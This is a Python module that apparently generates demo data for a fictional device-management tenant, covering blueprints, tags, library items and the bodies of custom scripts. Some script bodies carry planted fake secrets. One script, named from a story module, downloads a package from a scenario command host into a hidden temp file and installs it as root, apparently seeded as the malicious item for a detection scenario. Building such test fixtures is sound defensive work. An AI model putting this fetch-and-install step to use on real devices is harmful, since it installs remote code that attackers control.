"""Blueprints of the made-up tenant, who is in them, and the library: items, and what custom scripts do."""

from dataclasses import dataclass
from functools import cached_property

from .chance import hashed, letters, uuid
from .data import Row, filled, table
from .story import STORY


@dataclass(frozen=True)
class DemoBlueprint:
    """A blueprint; `platforms` and `departments` decide which devices are in it."""

    name: str
    type: str
    platforms: tuple[str, ...]
    departments: tuple[str, ...]
    description: str
    icon: str = "ss-files"
    color: str = "aqua-800"

    @cached_property
    def id(self) -> str:
        """The same for every seed; made once, as every row of a device has it."""
        return uuid("blueprint", self.name)

    def named(self) -> dict[str, str]:
        """The blueprint as other records carry it."""
        return {"id": self.id, "name": self.name}

    def record(self, devices: int) -> Row:
        """The blueprint as /blueprints sends it, its enrollment secret included."""
        params = {uuid("param", self.name, n): {"mute": False, "daily": bool(n % 2)} for n in range(3)}
        code = {"code": letters(6, "enroll", self.name, alphabet="0123456789"), "is_active": True}
        return filled("blueprint", self, params=params, computers_count=devices, enrollment_code=code)


BLUEPRINTS = tuple(
    DemoBlueprint(
        row["name"], row["type"], tuple(row["platforms"].split()), tuple(row["departments"].split()), row["description"]
    )
    for row in table("blueprints")
)
ENGINEERING = BLUEPRINTS[0]


def blueprint_for(platform: str, department: str, chance: int) -> DemoBlueprint:
    """The blueprint of a device, by platform and its user's department; a few are left in the old one."""
    fitting = [one for one in BLUEPRINTS if platform in one.platforms]
    if chance % 50 == 0 and len(fitting) > 1:
        return fitting[-1]
    own = [one for one in fitting if department in one.departments]
    return (own or [one for one in fitting if not one.departments])[0]


_TAG_NAMES = ("VIP", "loaner", "Build Farm", "kiosk", "remote", "QA", "legal hold")
TAGS = tuple((uuid("tag", name), name) for name in _TAG_NAMES)


def tags_for(chance: int) -> tuple[str, ...]:
    """The tags of a device: mostly none."""
    first = hashed("tags", chance)
    if first % 5:
        return ()
    return tuple(sorted({TAGS[first // 5 % len(TAGS)][1], TAGS[first // 35 % len(TAGS)][1]}))


@dataclass(frozen=True, slots=True)
class Item:
    """A library item; an empty `blueprint` means all that have one of its platforms."""

    name: str
    type: str
    platforms: tuple[str, ...]
    blueprint: str

    @property
    def id(self) -> str:
        """The same for every seed."""
        return uuid("item", self.name)

    def is_in(self, blueprint: DemoBlueprint) -> bool:
        """Whether a blueprint holds the item."""
        return bool(set(self.platforms) & set(blueprint.platforms)) and self.blueprint in ("", blueprint.name)


ITEMS = tuple(
    Item(row["name"], row["type"], tuple(row["platforms"].split()), row["blueprint"]) for row in table("items")
)


def items_of(blueprint: DemoBlueprint) -> list[Item]:
    """The items in a blueprint."""
    return [item for item in ITEMS if item.is_in(blueprint)]


BODIES = {
    "Rotate Recovery Key": "#!/bin/zsh\n# SECRET-IN-SCRIPT api_key=nw-demo-4f1d2c\nfdesetup changerecovery -personal\n",
    "Inventory Collector": "#!/bin/zsh\n/usr/local/northwind/bin/inventory.sh --token SECRET-IN-SCRIPT\n",
    "Rename Computer": '#!/bin/zsh\nscutil --set ComputerName "NW-$(id -un)"\n',
    STORY.script_name: f"#!/bin/zsh\ncurl -fsSL http://{STORY.command_host}/fix.pkg -o /tmp/.fix.pkg\n"
    "installer -pkg /tmp/.fix.pkg -target /\n",
}
"""What custom scripts do."""
